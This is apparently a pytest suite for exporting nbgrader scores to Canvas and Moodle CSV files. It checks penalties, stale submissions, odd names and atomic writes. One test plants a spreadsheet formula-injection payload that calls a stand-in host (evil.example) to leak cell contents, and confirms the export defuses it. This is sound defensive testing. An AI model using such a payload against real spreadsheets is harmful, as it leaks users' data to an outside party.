"""Scores for Canvas, Moodle and nbgrader: right numbers only, matched to the right student."""

import csv
import io
import os
import shutil
import time
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from postgres import with_database
from tiny_course import RIGHT, WRONG, A, tiny_room

from grading.classes.course import open_course
from grading.files import write_whole
from grading.reports import scores
from grading.reports.export import Exported, export
from grading.reports.styles import NBGRADER_COLUMNS, LeftOut, Style, is_safe_id, number, plain

STYLES = [str(style) for style in Style]
DUE = datetime(2026, 3, 1, 12)


class Book:
    """A gradebook without notebooks: scores are put in as grading would have."""

    def __init__(self, root: Path, like: str = "") -> None:
        self.root = root
        self.api = open_course(root, with_database(like=like))

    def assignment(self, name: str, points: float = 10, due: datetime | None = None) -> None:
        """Add an assignment of two notebooks; the second one has two cells."""
        with self.api.gradebook as book:
            book.add_assignment(name, duedate=due)
            for notebook, cells in (("part1", ["a"]), ("part2", ["b", "c"])):
                book.add_notebook(notebook, name)
                for cell in cells:
                    worth = points / 2 if cell == "a" else points / 4
                    book.add_grade_cell(cell, notebook, name, max_score=worth, cell_type="code")

    def student(self, name: str, last: str = "", first: str = "", email: str = "") -> None:
        with self.api.gradebook as book:
            book.update_or_create_student(name, last_name=last, first_name=first, email=email)

    def hand_in(self, student: str, assignment: str, **times: float) -> None:
        """Put two files where a submission lies."""
        self._files("submitted", student, assignment, times.get("at", time.time() - 200))

    def grade(self, student: str, assignment: str, *scores: float | None, **more) -> None:
        """Hand in and grade: a score for each of the three cells."""
        self.hand_in(student, assignment)
        self._files("autograded", student, assignment, time.time() - 100)
        with self.api.gradebook as book:
            book.update_or_create_student(student)
            submission = book.update_or_create_submission(assignment, student)
            submission.timestamp = more.get("timestamp")
            submission.notebooks[0].late_submission_penalty = more.get("penalty")
            grades = {g.name: g for n in submission.notebooks for g in n.grades}
            for name, score in zip("abc", scores, strict=True):
                grades[name].auto_score = score
                grades[name].needs_manual_grade = score is None
            book.db.commit()

    def change(self, student: str, assignment: str, cell: str, **fields) -> None:
        """Change one grade, as the formgrader does."""
        with self.api.gradebook as book:
            notebook = "part1" if cell == "a" else "part2"
            grade = book.find_grade(cell, notebook, assignment, student)
            for name, value in fields.items():
                setattr(grade, name, value)
            book.db.commit()

    def _files(self, folder: str, student: str, assignment: str, at: float) -> None:
        for notebook in ("part1", "part2"):
            path = self.root / folder / student / assignment / f"{notebook}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("{}")
            os.utime(path, (at, at))

    def export(self, style: str, *assignments: str) -> tuple[Exported, list[list[str]]]:
        """Export; also read the file as a CSV reader sees it."""
        done = export(self.api, style, self.root / f"{style}.csv", assignments)
        return done, read(done.path)


def read(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def scores_of(rows: list[list[str]], id_column: int = 3, first: int = 5) -> dict[str, list[str]]:
    """Read Canvas's file: the fields with scores, by login."""
    return {row[id_column]: row[first:] for row in rows[1:] if row[id_column]}


@pytest.fixture(scope="module")
def fresh(tmp_path_factory) -> Book:
    """A gradebook with one assignment: making one takes nbgrader seconds, a copy none."""
    book = Book(tmp_path_factory.mktemp("fresh"))
    book.assignment("early")
    return book


@pytest.fixture
def book(tmp_path, fresh) -> Book:
    if (fresh.root / "gradebook.db").exists():
        shutil.copy(fresh.root / "gradebook.db", tmp_path)
    return Book(tmp_path, like=fresh.api.coursedir.db_url)


LMS_FILES = {
    "canvas": [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "early"],
        ["    Points Possible", "", "", "", "", "10"],
        ["Lovelace, Ada", "", "", "ada", "", "7.5"],
    ],
    "moodle": [
        ["Username", "First name", "Last name", "Email address", "early"],
        ["ada", "Ada", "Lovelace", "ada@uni.example", "7.5"],
    ],
}


@pytest.mark.parametrize("style", LMS_FILES)
def test_the_file_is_what_the_system_reads(book, style):
    book.student("ada", "Lovelace", "Ada", "ada@uni.example")
    book.grade("ada", "early", 5, 2.5, 0)
    done, rows = book.export(style)
    assert rows == LMS_FILES[style]
    assert (done.scores, done.left_out, done.gaps) == (1, (), 0)


def test_nbgrader_file_says_what_nbgrader_export_says(book):
    book.assignment("late", points=20, due=DUE)
    for name in ("ada", "ben", "chloe"):
        book.student(name, name.title(), "X", f"{name}@uni.example")
    book.grade("ada", "early", 5, 2.5, 0)
    book.grade("ben", "late", 10, 5, 5, penalty=3.0, timestamp=DUE + timedelta(hours=2))
    _, rows = book.export("nbgrader")
    theirs = book.root / "theirs.csv"
    plugin = CsvExportPlugin()
    plugin.to = str(theirs)
    with book.api.gradebook as gradebook:
        plugin.export(gradebook)
    assert rows[0] == [*NBGRADER_COLUMNS, "status"]
    wanted = sorted([row[0], *row[1:7], *map(float, row[7:])] for row in read(theirs)[1:])
    assert sorted([row[0], *row[1:7], *map(float, row[7:11])] for row in rows[1:]) == wanted
    assert read(theirs)[0] == rows[0][:-1]
    assert [row[3] for row in rows if row[-1] == "nothing handed in"] == [
        *("ada", "chloe"),  # late, which is due first
        *("ben", "chloe"),
    ]


def test_late_penalty_is_taken_off_and_never_below_zero(book):
    book.grade("ben", "early", 5, 2.5, 2.5, penalty=3.0)
    book.grade("dan", "early", 0, 2.5, 0, penalty=5.0)
    assert scores_of(book.export("canvas")[1]) == {"ben": ["7"], "dan": ["0"]}
    by_id = {row[3]: row[7:10] for row in book.export("nbgrader")[1]}
    assert by_id["ben"] == ["10", "3", "7"] and by_id["dan"] == ["2.5", "5", "0"]


def test_points_given_by_hand_count(book):
    book.grade("ada", "early", 5, None, 0)
    assert scores_of(book.export("canvas")[1]) == {}
    book.change("ada", "early", "b", manual_score=1.5, needs_manual_grade=False, extra_credit=0.25)
    assert scores_of(book.export("canvas")[1]) == {"ada": ["6.75"]}


@pytest.mark.parametrize("style", ["canvas", "moodle"])
def test_open_score_is_no_number_and_is_reported(book, style):
    book.grade("ada", "early", 5, 2.5, 2.5)
    book.grade("gus", "early", 5, None, 2.5)  # the grader's own fault
    book.grade("hal", "early", 0, 0, 0)
    book.change("hal", "early", "a", needs_manual_grade=True)  # an unreadable notebook
    book.hand_in("ivy", "early")
    done, rows = book.export(style)
    assert {"gus", "hal", "ivy"}.isdisjoint(field for row in rows for field in row)
    assert done.left_out == (
        LeftOut("early", "gus", scores.NEEDS_PERSON),
        LeftOut("early", "hal", scores.NEEDS_PERSON),
        LeftOut("early", "ivy", scores.NOT_GRADED),
    )
    assert (done.scores, done.gaps) == (1, 0)


def test_open_score_without_the_flag_is_open_all_the_same(book):
    book.grade("gus", "early", 5, None, 2.5)
    book.change("gus", "early", "b", needs_manual_grade=False)
    assert [one.reason for one in book.export("canvas")[0].left_out] == [scores.NEEDS_PERSON]


def test_nbgrader_file_gives_open_scores_no_number_but_a_reason(book):
    book.grade("gus", "early", 5, None, 2.5)
    book.hand_in("ivy", "early")
    done, rows = book.export("nbgrader")
    assert {row[3]: row[7:] for row in rows[1:]} == {
        "gus": ["", "", "", "10", scores.NEEDS_PERSON],
        "ivy": ["", "", "", "10", scores.NOT_GRADED],
    }
    assert [one.student for one in done.left_out] == ["gus", "ivy"] and done.scores == 0


@pytest.mark.parametrize("style", ["canvas", "moodle"])
def test_nothing_handed_in_is_not_zero(book, style):
    book.student("eve")
    book.grade("ada", "early", 5, 2.5, 2.5)
    done, rows = book.export(style)
    assert not any("eve" in row for row in rows)
    assert done.left_out == ()


def test_fields_that_take_back_a_grade_are_counted(book):
    book.assignment("second")
    book.grade("ada", "early", 5, 2.5, 2.5)
    book.grade("ada", "second", 5, None, 2.5)
    book.grade("ben", "early", 5, 2.5, 2.5)
    book.student("eve")  # nothing at all: no line, so nothing of hers is taken back
    done, rows = book.export("canvas")
    assert scores_of(rows) == {"ada": ["10", ""], "ben": ["10", ""]}
    assert done.gaps == 2
    # In a new grade item of Moodle an empty field becomes 0.
    done, rows = book.export("moodle")
    assert [row[4:] for row in rows[1:]] == [["10", "-"], ["10", "-"]]
    for name in ("early", "second"):
        assert book.export("canvas", name)[0].gaps == 0


@pytest.mark.parametrize("style", STYLES)
def test_handed_in_again_after_grading_is_stale(book, style):
    book.grade("ada", "early", 5, 2.5, 2.5)
    assert book.export(style)[0].left_out == ()
    book.hand_in("ada", "early", at=time.time() - 1)
    assert book.export(style)[0].left_out == (LeftOut("early", "ada", scores.CHANGED),)


@pytest.mark.parametrize(
    ("text", "status"),
    [
        ("2026-03-01 13:00:00 UTC", "final"),
        ("2026-03-01 14:00:00 UTC", scores.CHANGED),
        ("2026-03-01T14:00:00+01:00", "final"),
        ("no time at all", "final"),  # grading removes such a stamp
        ("", "final"),
        ("9" * 5000, "final"),
        ("\x00", "final"),
    ],
)
def test_time_stamp_of_the_submission(book, text, status):
    book.grade("ada", "early", 5, 2.5, 2.5, timestamp=datetime(2026, 3, 1, 13))
    (book.root / "submitted/ada/early/timestamp.txt").write_text(text)
    assert book.export("nbgrader")[1][1][-1] == status


def test_time_stamp_of_bytes_and_dates_in_the_future_do_no_harm(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    folder = book.root / "submitted/ada/early"
    (folder / "timestamp.txt").write_bytes(b"\xff\xfe\x00")
    os.utime(folder / "part1.ipynb", (time.time() + 10**6,) * 2)
    assert book.export("canvas")[0].scores == 1


def test_half_a_grading_is_stale(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    (book.root / "autograded/ada/early/part2.ipynb").unlink()
    assert book.export("canvas")[0].left_out == (LeftOut("early", "ada", scores.UNFINISHED),)


def test_new_cells_in_the_assignment_make_scores_stale(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    with book.api.gradebook as gradebook:
        gradebook.add_grade_cell("d", "part2", "early", max_score=5, cell_type="code")
    assert book.export("canvas")[0].left_out == (LeftOut("early", "ada", scores.OLD_ASSIGNMENT),)


def test_submissions_put_away_after_grading_are_final(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    (book.root / "submitted").rename(book.root / "put away")
    assert book.export("canvas")[0].scores == 1


def test_infinite_points_are_no_score(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    book.change("ada", "early", "a", manual_score=float("inf"))
    assert book.export("canvas")[0].left_out == (LeftOut("early", "ada", scores.NO_NUMBER),)


@pytest.mark.parametrize("style", STYLES)
def test_same_gradebook_gives_same_bytes(book, style):
    for name in ("zoe", "ada", "ben"):  # same names: the id decides
        book.student(name, "Smith", "Sam")
        book.grade(name, "early", 5, 2.5, 2.5)
    path = book.export(style)[0].path
    first = path.read_bytes()
    path.write_text("older")
    assert book.export(style)[0].path.read_bytes() == first
    assert first.index(b"ada") < first.index(b"ben") < first.index(b"zoe")
    assert not first.startswith(b"\xef\xbb\xbf")
    assert sorted(p.name for p in book.root.glob("*csv*")) == [path.name], "a temporary file"


def test_assignments_come_in_the_gradebooks_order(book):
    book.assignment("b_second", due=DUE + timedelta(days=1))
    book.assignment("c_first", due=DUE)
    book.student("ada")
    assert book.export("canvas")[1][0][5:] == ["c_first", "b_second", "early"]
    assert book.export("canvas", "early", "c_first", "early")[1][0][5:] == ["c_first", "early"]


NAMES = [
    ("Żółć", "Zoë 数学"),
    ('O\'Neil, the "Great"', "Ann; Bob"),
    ("two\nlines", "a\rb\tc"),
    ("", ""),
]


@pytest.mark.parametrize(("last", "first"), NAMES)
def test_odd_names_come_through(book, last, first):
    book.student("ada", last, first)
    book.grade("ada", "early", 5, 2.5, 2.5)
    row = book.export("nbgrader")[1][1]
    assert row[3:6] == ["ada", last, first] and len(row) == len(NBGRADER_COLUMNS) + 1

    def one_line(text: str) -> str:
        return " ".join(text.split())

    names = [one_line(name) for name in (last, first)]
    row = book.export("canvas")[1][2]
    assert row == [", ".join(filter(None, names)) or "ada", "", "", "ada", "", "10"]
    row = book.export("moodle")[1][1]
    assert row == ["ada", names[1] or "ada", names[0] or "ada", "ada", "10"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\x00="])
@pytest.mark.parametrize("style", STYLES)
def test_names_never_are_formulas(book, style, start):
    if start[0] == "\x00" and "postgresql" in book.api.coursedir.db_url:
        pytest.skip("PostgreSQL takes no such character")
    attack = f'{start}HYPERLINK("http://evil.example?x="&A1,"me")'
    book.student("ada", attack, attack, attack)
    book.grade("ada", "early", 5, 2.5, 2.5)
    rows = book.export(style)[1]
    fields = [field for row in rows[1:] for field in row]
    assert not any(
        field.lstrip("\x00").lstrip()[:1] in set("=+-@\uff1d") - {""} for field in fields
    )
    assert any("HYPERLINK" in field for field in fields), "the name itself is kept"


@pytest.mark.parametrize(
    "odd",
    [
        *("=cmd", "+1", "-ada", "@ada", "a\tb", "a\nb", " ada", "ada ", "", "0", 'a"b', "a\\"),
        *("\u200bada", "\uff1dcmd", "Points Possible"),
    ],
)
def test_odd_ids_are_not_matched(odd):
    assert not is_safe_id(odd)


@pytest.mark.parametrize("good", ["ada", "ada.l@uni.example", "s-1_2", "007", "ünal", "o'neil"])
def test_ordinary_ids_are_matched(good):
    assert is_safe_id(good)


def test_student_with_a_hostile_id_is_left_out_alone(book):
    book.student("ada", "Points Possible", "")
    book.grade("ada", "early", 5, 2.5, 2.5)
    book.grade("=1+1", "early", 5, 2.5, 2.5)
    book.grade("0", "early", 5, None, 2.5)
    done, rows = book.export("canvas")
    assert rows[2:] == [["ada", "", "", "ada", "", "10"]], "no second line with points"
    assert [(one.student, "rename" in one.reason) for one in done.left_out] == [
        ("0", True),
        ("=1+1", True),
    ]
    assert done.scores == 1
    rows = book.export("nbgrader")[1]
    assert sorted(row[3] for row in rows[1:]) == ["'=1+1", "0", "ada"]


def test_backslash_before_a_quote_cannot_swallow_fields_in_php(book):
    book.student("ada", "Lovelace, \\", 'Ada "\\"')
    book.grade("ada", "early", 5, 2.5, 2.5)
    assert b"\\" not in book.export("moodle")[0].path.read_bytes()


def test_every_line_of_moodle_identifies_its_own_student(book):
    book.student("ada", email="ada@uni.example")
    book.student("ben")  # no address: an empty one would be taken for ada's
    book.student("dan", email="=cmd")
    for name in ("ada", "ben", "dan"):
        book.grade(name, "early", 5, 2.5, 2.5)
    assert [(row[0], row[3]) for row in book.export("moodle")[1][1:]] == [
        ("ada", "ada@uni.example"),
        ("ben", "ben"),
        ("dan", "dan"),
    ]


def test_folder_whose_name_is_no_unicode_does_no_harm(book):
    book.grade("ada", "early", 5, 2.5, 2.5)
    os.makedirs(os.fsencode(book.root / "submitted") + b"/\xff\xfe/early")
    for style in STYLES:
        assert book.export(style)[0].scores == 1
    assert len(book.export("canvas")[0].left_out) == 1


@pytest.mark.parametrize(
    ("value", "text"),
    [
        *((0.1 + 0.2, "0.3"), (20.0, "20"), (100.0, "100"), (0.0, "0"), (-0.0, "0")),
        *((1 / 3, "0.3333"), (2 / 3, "0.6667"), (1e-9, "0"), (1234567.5, "1234567.5")),
    ],
)
def test_number(value, text):
    assert number(value) == text


def test_plain_leaves_ordinary_texts_alone():
    for text in ("Ada", "O'Neil", "a=b", "5 - 3", "", "two\nlines", "数学"):
        assert plain(text) == text


def test_unknown_style(book):
    with pytest.raises(ValueError, match="nbgrader, canvas, moodle, got 'excel'"):
        export(book.api, "excel", book.root / "x.csv")


def test_unknown_assignment_changes_no_file(book):
    path = book.root / "x.csv"
    path.write_text("older")
    with pytest.raises(ValueError, match=r"knows \(early\), got later"):
        export(book.api, "canvas", path, ["early", "later"])
    assert path.read_text() == "older"


def test_empty_gradebook_says_what_to_do(tmp_path):
    with pytest.raises(ValueError, match="grade an assignment first"):
        export(open_course(tmp_path), "canvas", tmp_path / "x.csv")


def test_file_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    path = tmp_path / "new" / "folder" / "grades.csv"
    write_whole(path, b"one")
    assert path.read_bytes() == b"one"

    def fail(self: Path, target: Path) -> Path:
        raise OSError("disk")

    monkeypatch.setattr(Path, "replace", fail)
    with pytest.raises(OSError, match="disk"):
        write_whole(path, b"two")
    assert path.read_bytes() == b"one"
    assert [p.name for p in path.parent.iterdir()] == ["grades.csv"]
    with pytest.raises(IsADirectoryError, match="got the folder"):
        write_whole(path.parent, b"three")


def test_graded_class_from_end_to_end(tmp_path):
    room = tiny_room(tmp_path)
    room.submit("ada", A, RIGHT)
    room.submit("finn", A, WRONG)
    (room.folder("hal", A) / "essay.txt").write_text("my answer")
    for student in ("ada", "finn", "hal"):
        room.grade(student, A)
    with Gradebook(room.api.coursedir.db_url) as gradebook:
        gradebook.update_or_create_student("eve")
    done = export(room.api, "canvas", tmp_path / "grades.csv")
    assert scores_of(read(done.path)) == {"ada": ["10"], "finn": ["0"]}
    assert done.left_out == (LeftOut(A, "hal", scores.NEEDS_PERSON),)
    room.submit("finn", A, RIGHT)
    done = export(room.api, "canvas", tmp_path / "grades.csv")
    assert scores_of(read(done.path)) == {"ada": ["10"]}
    assert LeftOut(A, "finn", scores.CHANGED) in done.left_out
